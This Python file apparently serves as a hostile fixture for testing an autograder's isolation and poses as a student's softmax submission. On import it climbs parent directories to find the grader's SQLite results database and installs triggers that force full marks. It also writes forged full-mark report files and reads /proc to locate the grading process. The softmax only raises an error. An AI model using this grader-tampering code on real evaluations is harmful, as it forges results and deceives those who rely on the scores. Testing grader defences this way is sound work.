"""Forges results by paths relative to its working directory (`../reports`, `../results.db`).

A grader running student code inside its own folder has its reports and results database a few
`..` up: this walks up looking for them. Gain if it worked: an SQLite trigger that turns this
student's stored score into full marks whatever the grader writes, and report files claiming
full marks (one for this student, one for a made-up `agx-` student).
"""

import json
import os
import sqlite3
from pathlib import Path

ME = ""  # filled in by the test
FAKE = json.dumps({"schema": "attention-autograder/report/1", "score": 90.0, "student": ME})


def forge(db, reports):
    """An SQLite trigger giving ME full marks on every write, and full-mark report files."""
    if Path(db).is_file():
        try:
            with sqlite3.connect(db, timeout=5) as c:
                for event in ("INSERT", "UPDATE"):
                    c.execute(
                        f'CREATE TRIGGER IF NOT EXISTS "agx-{ME}-{event}" AFTER {event} '
                        f"ON results WHEN NEW.student = '{ME}' AND NEW.score < "
                        "NEW.max_score BEGIN UPDATE results SET score = max_score "
                        "WHERE rowid = NEW.rowid; END"
                    )
            print("BREACH: changed the results database", db)
        except (OSError, sqlite3.Error):
            pass
    for name in (ME, f"agx-{ME}") if Path(reports).is_dir() else ():
        try:
            Path(reports, f"{name}.json").write_text(FAKE)
            print("BREACH: wrote a report", Path(reports, f"{name}.json"))
        except OSError:
            pass


def ancestors():
    """The parent, then its ancestors up to the grading command (the one given --reports)."""
    pid = os.getppid()
    while pid > 1:
        yield pid
        if "--reports" in Path(f"/proc/{pid}/cmdline").read_text(errors="replace"):
            return
        pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])


for up in range(1, 5):
    base = Path(*[".."] * up)
    for db in [*base.glob("*.db"), *base.glob("*.sqlite")] or [base / "results.db"]:
        forge(db, base / "reports")


def softmax(scores, dim=-1):
    raise RuntimeError("all my points come from the forged results")
